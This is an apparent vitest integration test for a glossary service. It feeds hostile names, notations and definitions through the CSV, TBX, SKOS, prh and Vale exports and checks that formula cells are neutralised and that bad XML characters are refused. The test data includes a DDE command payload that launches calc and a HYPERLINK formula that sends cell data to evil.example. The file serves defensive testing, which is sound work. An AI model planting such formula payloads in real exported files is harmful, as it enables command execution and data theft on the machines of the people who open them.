import { parse as parseCsv } from 'csv-parse/sync'
import jsonld from 'jsonld'
import { Parser, type Quad } from 'n3'
import { parse as parseYaml } from 'yaml'
import { beforeAll, describe, expect, it } from 'vitest'
import { createApiKey, createTerm, createUser } from '#tests/factories.ts'
import { apiCall, useApiServer, type Json } from '#tests/http.ts'
import { useTestDb } from '#tests/setup/db.ts'
import { kids, parseXml, unzip } from '#tests/export-files.ts'

/**
 * Issue 26 items 4 and 5: hostile names, notations and definitions through every export, each file read back
 * by a strict parser of its format, must give back exactly what the glossary stores; the CSV re-imports to
 * the same values; characters XML cannot carry are refused at input with the field named.
 */
useTestDb()
const server = useApiServer()

const SKOS = 'http://www.w3.org/2004/02/skos/core#'
const DOMAIN = { key: 'hostile', nameEn: 'Ent &bogus; "q" <d> & ]]>', nameKo: '도메인 &amp; <x>' }

/**
 * The terms, as sent to POST /terms (every value kept as typed: none needs trimming). Notations are listed by
 * kind, as the CSV's columns hold them (an order across kinds is a documented limit of the CSV, decision 019).
 */
const HOSTILE: Record<string, Json>[] = [
  {
    slug: 'ent-bogus',
    name: 'Ent &bogus; x',
    fullName: 'Tag <b>bold</b> & "double" \'single\' \\back\\slash',
    nameEn: '&amp; &#38; &lt; ]]> literal',
    nameKo: '엔티티 ]]> 한국어',
    notations: [
      { text: '🚀 rocket 😀', kind: 'preferred' },
      { text: '-fno-rtti', kind: 'admitted' },
      { text: '@SUM(A1)', kind: 'admitted' },
      { text: 'a;b', kind: 'admitted' },
      { text: 'trailing back\\', kind: 'admitted' },
      { text: '+1', kind: 'deprecated' },
      { text: '=1+3', kind: 'deprecated' },
      { text: 'semi\\;colon \\\\ two', kind: 'deprecated' },
    ],
    domains: [DOMAIN.key],
    tags: ['=tag', 't;ag', 'b\\'],
    definition: '\r=1+3',
    // A body may hold any control character but NUL: it is written to no XML (decision 012, round two).
    body: '=HYPERLINK("http://evil.example/?"&A1)\r\nCRLF\rCR\nLF\tTAB, "quotes"; semi \u0001 end',
  },
  {
    slug: 'cmd-calc',
    name: "=cmd|' /C calc'!A0",
    nameKo: "'아포스트로피",
    notations: [
      { text: "'=already", kind: 'admitted' },
      { text: "'plain", kind: 'admitted' },
      { text: "''@twice", kind: 'deprecated' },
    ],
    definition: '\t=1+3 after a tab',
  },
  {
    slug: 'line-breaks',
    name: 'Line\tone\rtwo\nthree\r\nfour',
    fullName: '+plus first',
    nameEn: '@at first',
    notations: [
      { text: '* star', kind: 'admitted' },
      { text: '> folded', kind: 'admitted' },
      { text: '? key', kind: 'admitted' },
      { text: '%TAG !x!', kind: 'admitted' },
      { text: '&anchor *alias', kind: 'admitted' },
      { text: 'yaml: special # comment', kind: 'deprecated' },
      { text: '| pipe', kind: 'deprecated' },
      { text: '- dash', kind: 'deprecated' },
      { text: '{flow}: [seq]', kind: 'deprecated' },
      { text: '"quoted" & <b>', kind: 'deprecated' },
    ],
    definition: 'CRLF\r\nLF\nCR\rend; "quoted", back\\slash',
  },
  {
    slug: 'fno-exceptions',
    name: '-fno-exceptions',
    nameEn: '+49 30 1234',
    notations: [{ text: '@@double at', kind: 'admitted' }],
    definition: '-1 is negative',
  },
  {
    slug: 'quotes-ko',
    name: '원장 ‘인용’ “따옴표”',
    notations: [{ text: '장부;대장', kind: 'deprecated' }],
    definition: '한국어 정의 <태그> & 끝',
  },
]

let readKey: Record<string, string>
let editorKey: Record<string, string>
let admin: Record<string, string>
/** The terms as the glossary stores them (GET /terms/{slug}), by slug. */
const stored = new Map<string, Json>()

const api = (method: string, path: string, headers: Record<string, string>, body?: unknown) =>
  apiCall(server.url(), method, path, headers, body)

async function download(path: string): Promise<Buffer> {
  const res = await fetch(`${server.url()}/api/v1${path}`, { headers: readKey })
  expect(res.status, path).toBe(200)
  return Buffer.from(await res.arrayBuffer())
}

/** What a term's content is, field by field, for comparing the glossary before and after an import. */
const content = (t: Json) => ({
  slug: t.slug,
  name: t.name,
  fullName: t.fullName,
  nameEn: t.nameEn,
  nameKo: t.nameKo,
  notations: t.notations.map((n: Json) => ({ text: n.text, kind: n.kind })),
  domains: t.domains,
  categories: t.categories,
  tags: t.tags,
  status: t.status,
  definition: t.definition,
  body: t.body,
})

/** Every name and notation of a term (the forms every export writes). */
const forms = (t: Json): string[] =>
  [t.name, t.fullName, t.nameEn, t.nameKo, ...t.notations.map((n: Json) => n.text)].filter(Boolean)

async function readStored(): Promise<void> {
  for (const { slug } of HOSTILE) {
    const res = await api('GET', `/terms/${encodeURIComponent(slug)}`, readKey)
    expect(res.status).toBe(200)
    stored.set(slug, res.json)
  }
}

beforeAll(async () => {
  const adminUser = await createUser({ role: 'admin' })
  const editor = await createUser({ role: 'editor' })
  admin = adminUser.sessionHeaders
  readKey = await createApiKey(editor.user.id, ['read'])
  editorKey = await createApiKey(editor.user.id, ['read', 'write'])
  expect((await api('POST', '/domains', admin, DOMAIN)).status).toBe(201)
  for (const term of HOSTILE) {
    const res = await api('POST', '/terms', editorKey, term)
    expect(res.status, JSON.stringify(res.json)).toBe(201)
  }
  await readStored()
  // The values are stored exactly as sent.
  for (const term of HOSTILE) {
    const t = stored.get(term.slug)!
    expect(t.name).toBe(term.name)
    expect(t.definition).toBe(term.definition)
    expect(t.notations.map((n: Json) => n.text)).toEqual(term.notations.map((n: Json) => n.text))
  }
})

describe('GET /export/terms.csv', () => {
  it('quotes every cell and neutralizes formula cells with a leading quote', async () => {
    const csv = (await download('/export/terms.csv')).toString('utf8')
    // Every cell quoted: with the quoted fields taken out, only commas and the CRLF record ends are left, so
    // no CR or LF inside a value can start a row in a spreadsheet.
    const rest = csv.replace(/^\uFEFF/, '').replace(/"(?:[^"]|"")*"/g, '')
    expect(rest).toMatch(/^(?:,*\r\n)+$/)
    expect(rest.split('\r\n').length - 1).toBe(HOSTILE.length + 1)
    const rows = parseCsv(csv, { bom: true, columns: true }) as Record<string, string>[]
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) {
        expect(cell, `${row.slug}.${column}`).not.toMatch(/^[=+\-@\t\r]/)
      }
    }
    const bySlug = (slug: string) => rows.find((r) => r.slug === slug)!
    expect(bySlug('ent-bogus').definition).toBe("'\r=1+3")
    expect(bySlug('ent-bogus').admitted).toBe("'-fno-rtti;@SUM(A1);a\\;b;trailing back\\\\")
    expect(bySlug('ent-bogus').deprecated).toBe("'+1;=1+3;semi\\\\\\;colon \\\\\\ two")
    expect(bySlug('ent-bogus').tags).toBe("'=tag;t\\;ag;b\\\\")
    expect(bySlug('cmd-calc').name).toBe("'=cmd|' /C calc'!A0")
    expect(bySlug('cmd-calc').admitted).toBe("''=already;'plain")
    expect(bySlug('cmd-calc').deprecated).toBe("'''@twice")
    expect(bySlug('cmd-calc').nameKo).toBe("'아포스트로피")
    expect(bySlug('cmd-calc').definition).toBe("'\t=1+3 after a tab")
    expect(bySlug('fno-exceptions').name).toBe("'-fno-exceptions")
    expect(bySlug('fno-exceptions').nameEn).toBe("'+49 30 1234")
  })

  it('re-imports to exactly the stored values (a dry run finds nothing to change)', async () => {
    const csv = (await download('/export/terms.csv')).toString('utf8')
    const dry = await api('POST', '/import', editorKey, { format: 'csv', csv, dryRun: true })
    expect(dry.status).toBe(200)
    expect(dry.json.rows.map((r: Json) => [r.slug, r.action, r.errors])).toEqual(
      [...HOSTILE].map((t) => [t.slug, 'unchanged', undefined]).sort((a, b) => (a[0]! < b[0]! ? -1 : 1)),
    )

    // Change every term, then import the file: the import itself must bring back every stored value.
    const before = new Map([...stored].map(([slug, t]) => [slug, content(t)]))
    for (const t of stored.values()) {
      const res = await api('PATCH', `/terms/${t.slug}`, editorKey, {
        baseRevision: t.revision,
        name: `Changed ${t.slug}`,
        fullName: null,
        nameEn: null,
        nameKo: null,
        notations: [{ text: `changed-${t.slug}`, kind: 'admitted' }],
        domains: [],
        tags: [],
        definition: 'changed',
        body: 'changed',
      })
      expect(res.status, JSON.stringify(res.json)).toBe(200)
    }
    // An export is the whole term, so restoring from it clears what it leaves empty (issue 27: by default an
    // empty cell keeps the stored value).
    const run = await api('POST', '/import', editorKey, {
      format: 'csv',
      csv,
      wait: true,
      emptyCells: 'clear',
    })
    expect(run.status).toBe(200)
    expect(run.json).toMatchObject({ status: 'succeeded', updated: HOSTILE.length, errors: 0 })
    await readStored()
    for (const [slug, t] of stored) expect(content(t), slug).toEqual(before.get(slug))
  })
})

describe('GET /export/terms.tbx', () => {
  it('parses with a strict XML parser and gives back every name, notation and definition exactly', async () => {
    const xml = (await download('/export/terms.tbx')).toString('utf8')
    const tbx = parseXml(xml)
    const entries = kids(kids(kids(tbx, 'text')[0]!, 'body')[0]!, 'conceptEntry')
    expect(entries).toHaveLength(HOSTILE.length)
    for (const t of stored.values()) {
      const entry = entries.find((e) => e.attrs.id === `t-${t.id}`)!
      expect(entry, t.slug).toBeDefined()
      expect(kids(entry, 'xref')[0]!.text).toBe(t.name)
      const terms = kids(entry, 'langSec').flatMap((l) =>
        kids(l, 'termSec').map((s) => kids(s, 'term')[0]!.text),
      )
      expect(new Set(terms), t.slug).toEqual(new Set(forms(t)))
      const definitions = kids(entry, 'langSec').flatMap((l) =>
        kids(l, 'descrip').filter((d) => d.attrs.type === 'definition'),
      )
      expect(definitions.map((d) => d.text)).toEqual([t.definition])
    }
    const ent = entries.find((e) => e.attrs.id === `t-${stored.get('ent-bogus')!.id}`)!
    expect(kids(ent, 'descrip').map((d) => [d.attrs.type, d.text])).toEqual([
      ['subjectField', `${DOMAIN.nameEn} (${DOMAIN.key})`],
    ])
  })
})

type Label = [string, string, string]
/** The labels and definitions of the concepts and schemes in a parsed SKOS graph, as [subject, property, value@lang]. */
const labelsOf = (quads: Quad[]): Label[] =>
  quads
    .filter((q) => q.object.termType === 'Literal' && q.predicate.value.startsWith(SKOS))
    .map((q): Label => [
      q.subject.value,
      q.predicate.value.slice(SKOS.length),
      `${q.object.value}@${(q.object as { language: string }).language}`,
    ])
    .sort()

describe('GET /export/terms.skos.ttl and .jsonld', () => {
  it('parse back (n3, jsonld) to exactly the stored labels and definitions', async () => {
    const ttl = (await download('/export/terms.skos.ttl')).toString('utf8')
    const turtle = new Parser({ format: 'text/turtle' }).parse(ttl)
    const doc = JSON.parse((await download('/export/terms.skos.jsonld')).toString('utf8'))
    const nquads = (await jsonld.toRDF(doc, { format: 'application/n-quads' })) as unknown as string
    const fromJsonLd = new Parser({ format: 'application/n-quads' }).parse(nquads)
    expect(labelsOf(fromJsonLd)).toEqual(labelsOf(turtle))

    const labels = labelsOf(turtle)
    const base = turtle.find((q) => q.object.value === `${SKOS}ConceptScheme`)!.subject.value
    for (const t of stored.values()) {
      const mine = labels.filter(([s]) => s === `${base}/${t.id}`)
      const texts = mine.filter(([, p]) => p.endsWith('Label')).map(([, , v]) => v.replace(/@[a-z-]*$/, ''))
      expect(new Set(texts), t.slug).toEqual(new Set(forms(t)))
      expect(mine.filter(([, p]) => p === 'definition').map(([, , v]) => v)).toEqual([`${t.definition}@`])
    }
    const domain = base.replace(/\/terms$/, `/domains/${DOMAIN.key}`)
    expect(labels.filter(([s]) => s === domain).map(([, , v]) => v)).toEqual(
      [`${DOMAIN.nameEn}@en`, `${DOMAIN.nameKo}@ko`].sort(),
    )
  })
})

/** A term's deprecated or admitted notations that the linter files turn into rules, with the form they suggest. */
function notationRules(kind: 'deprecated' | 'admitted'): { text: string; expected: string }[] {
  return [...stored.values()].flatMap((t) =>
    t.notations
      .filter((n: Json) => n.kind === kind)
      .map((n: Json) => ({
        text: n.text,
        expected: t.nameKo && /\p{Script=Hangul}/u.test(n.text) ? t.nameKo : t.name,
      })),
  )
}

/** A pattern as Vale and prh read it, tested against the whole of `text`. */
const matchesWhole = (pattern: string, text: string, flags = '') =>
  new RegExp(`^(?:${pattern})$`, `${flags}u`).test(text)

describe('GET /export/prh.yml', () => {
  it('parses as YAML and holds each notation’s pattern and exact replacement', async () => {
    const yml = (await download('/export/prh.yml')).toString('utf8')
    const rules = parseYaml(yml).rules as { expected: string; patterns: string[]; prh: string }[]
    const wanted = [...notationRules('deprecated'), ...notationRules('admitted')]
    expect(rules).toHaveLength(wanted.length)
    for (const { text, expected } of wanted) {
      const rule = rules.find((r) => {
        const [, body, flags] = /^\/(.*)\/([a-z]*)$/s.exec(r.patterns[0]!)!
        return matchesWhole(body!, text, flags)
      })
      expect(rule, text).toBeDefined()
      expect(rule!.expected).toBe(expected)
      expect(rule!.prh).toContain(`"${text}" → "${expected}"`)
    }
  })
})

describe('GET /export/vale.zip', () => {
  it('holds rules and a vocabulary whose entries match each form exactly, one line per form', async () => {
    const files = await unzip(await download('/export/vale.zip'))
    for (const [file, kind] of [
      ['Glossary/DeprecatedNotation.yml', 'deprecated'],
      ['Glossary/AdmittedNotation.yml', 'admitted'],
    ] as const) {
      const swap = parseYaml(files.get(file)!).swap as Record<string, string>
      const wanted = notationRules(kind)
      expect(Object.keys(swap), file).toHaveLength(wanted.length)
      for (const { text, expected } of wanted) {
        const key = Object.keys(swap).find((k) => matchesWhole(k, text))
        expect(key, `${file}: ${text}`).toBeDefined()
        expect(swap[key!]).toBe(expected)
      }
    }
    const vocabulary = files.get('config/vocabularies/Glossary/accept.txt')!
    const lines = vocabulary.slice(0, -1).split('\n')
    const accepted = [...stored.values()].flatMap((t) => [
      ...[t.name, t.fullName, t.nameEn, t.nameKo].filter(Boolean),
      ...t.notations.filter((n: Json) => n.kind !== 'deprecated').map((n: Json) => n.text),
    ])
    expect(lines).toHaveLength(new Set(accepted).size)
    for (const form of accepted)
      expect(
        lines.filter((l) => matchesWhole(l, form)),
        form,
      ).toHaveLength(1)
  })
})

describe('characters XML 1.0 cannot carry', () => {
  const REFUSED = ['\u0001', '\u0008', '\u000B', '\u000C', '\u001F', '\uFFFE', '\uFFFF']

  it('are refused by the API with the field named', async () => {
    const fields: [string, (bad: string) => Record<string, unknown>][] = [
      ['name', (bad) => ({ name: `bad${bad}name` })],
      // In the middle of each value: a vertical tab or form feed at an end is white space the schema trims.
      ['fullName', (bad) => ({ name: 'Fine', fullName: `full${bad}name` })],
      ['nameEn', (bad) => ({ name: 'Fine', nameEn: `en${bad}glish` })],
      ['nameKo', (bad) => ({ name: 'Fine', nameKo: `한${bad}국` })],
      ['notations.0.text', (bad) => ({ name: 'Fine', notations: [{ text: `n${bad}x`, kind: 'admitted' }] })],
      ['definition', (bad) => ({ name: 'Fine', definition: `def${bad}inition` })],
    ]
    for (const bad of REFUSED) {
      for (const [field, body] of fields) {
        const res = await api('POST', '/terms', editorKey, body(bad))
        const label = `${field} with U+${bad.charCodeAt(0).toString(16)}`
        expect(res.status, label).toBe(400)
        expect(res.json.error.code, label).toBe('validation_failed')
        expect(
          res.json.error.details.problems.map((p: Json) => p.path),
          label,
        ).toEqual([field])
        expect(res.text, label).not.toMatch(/\bat \S+\.ts:\d+/)
      }
    }
    const t = stored.get('fno-exceptions')!
    const patch = await api('PATCH', `/terms/${t.slug}`, editorKey, {
      baseRevision: t.revision,
      notations: [
        { text: 'ok', kind: 'admitted' },
        { text: 'bad\uFFFF', kind: 'admitted' },
      ],
    })
    expect(patch.status).toBe(400)
    expect(patch.json.error.details.problems.map((p: Json) => p.path)).toEqual(['notations.1.text'])
    const domain = await api('POST', '/domains', admin, { key: 'bad', nameKo: '나쁜', nameEn: 'Bad\u0002' })
    expect(domain.status).toBe(400)
    expect(domain.json.error.details.problems.map((p: Json) => p.path)).toEqual(['nameEn'])
    const rename = await api('PATCH', `/domains/${DOMAIN.key}`, admin, { nameKo: '\u001Fx' })
    expect(rename.status).toBe(400)
    expect(rename.json.error.details.problems.map((p: Json) => p.path)).toEqual(['nameKo'])
  })

  it('make an import row an error naming the field, while the other rows are planned', async () => {
    const csv = [
      'slug,name,admitted,definition',
      '"fine-row","Fine row","ok","Fine."',
      '"bad-name","Bad\u0001name","","Fine."',
      '"bad-notation","Bad notation","ok;bad\uFFFE","Fine."',
      '"bad-definition","Bad definition","","Bell\u0007"',
    ].join('\r\n')
    const dry = await api('POST', '/import', editorKey, { format: 'csv', csv, dryRun: true })
    expect(dry.status).toBe(200)
    expect(dry.json.rows.map((r: Json) => [r.action, r.errors?.map((e: Json) => e.path)])).toEqual([
      ['created', undefined],
      ['error', ['name']],
      ['error', ['notations.1.text']],
      ['error', ['definition']],
    ])
    const json = await api('POST', '/import', editorKey, {
      format: 'json',
      dryRun: true,
      rows: [{ name: 'Json row', nameKo: '한\u000B국' }],
    })
    expect(json.status).toBe(200)
    expect(json.json.rows[0]).toMatchObject({ action: 'error', errors: [{ path: 'nameKo' }] })
  })
})

describe('a term stored before the rule, holding such a character', () => {
  it('is still exported as readable TBX, the character written as U+FFFD', async () => {
    // The service itself does not parse its input (the schemas at the edges do): the way an older row looks.
    const legacy = await createTerm({ name: 'Legacy\u0001name', slug: 'legacy', definition: 'Bell\u0007.' })
    const xml = (await download('/export/terms.tbx')).toString('utf8')
    const entries = kids(kids(kids(parseXml(xml), 'text')[0]!, 'body')[0]!, 'conceptEntry')
    const entry = entries.find((e) => e.attrs.id === `t-${legacy.id}`)!
    expect(kids(entry, 'xref')[0]!.text).toBe('Legacy\uFFFDname')
    expect(kids(kids(entry, 'langSec')[0]!, 'descrip')[0]!.text).toBe('Bell\uFFFD.')
  })
})
